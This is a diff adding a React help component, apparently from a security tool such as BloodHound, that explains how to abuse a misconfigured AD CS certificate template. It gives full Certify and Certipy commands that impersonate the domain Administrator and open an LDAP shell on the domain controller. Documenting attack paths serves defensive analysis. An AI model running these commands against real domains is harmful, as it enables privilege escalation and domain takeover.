@@ -0,0 +1,51 @@
+// Copyright 2026 Specter Ops, Inc.
+//
+// Licensed under the Apache License, Version 2.0
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+//
+//     http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+//
+// SPDX-License-Identifier: Apache-2.0
+
+import { Box, Typography } from '@mui/material';
+import { FC } from 'react';
+
+const WindowsAbuse: FC = () => {
+    return (
+        <>
+            <Typography variant='body2'>An attacker may perform this attack in the following steps:</Typography>
+            <Typography variant='body2'>
+                <Box component='span' className='font-bold'>
+                    Step 1:
+                </Box>{' '}
+                Use Certify (2.0) to request enrollment in the affected template, specifying the affected certification
+                authority, the target principal to impersonate and the Client Authentication application policy:
+            </Typography>
+            <Typography component={'pre'}>
+                {
+                    'Certify.exe request --ca rootdomaindc.forestroot.com\\forestroot-RootDomainDC-CA --template WebServer --upn Administrator --sid-url S-1-5-21-976219687-1556195986-4104514715-500 --application-policy 1.3.6.1.5.5.7.3.2'
+                }
+            </Typography>
+            <Typography variant='body2'>
+                The certificate PFX is printed to the console in a base64-encoded format.
+            </Typography>
+            <Typography variant='body2'>
+                <Box component='span' className='font-bold'>
+                    Step 2:
+                </Box>{' '}
+                Use Certipy to connect to the domain controller via Schannel, specifying the PFX-formatted certificate
+                created in Step 1:
+            </Typography>
+            <Typography component={'pre'}>{'certipy auth -pfx .\\cert.pfx -dc-ip 10.4.0.4 -ldap-shell'}</Typography>
+        </>
+    );
+};
+
+export default WindowsAbuse;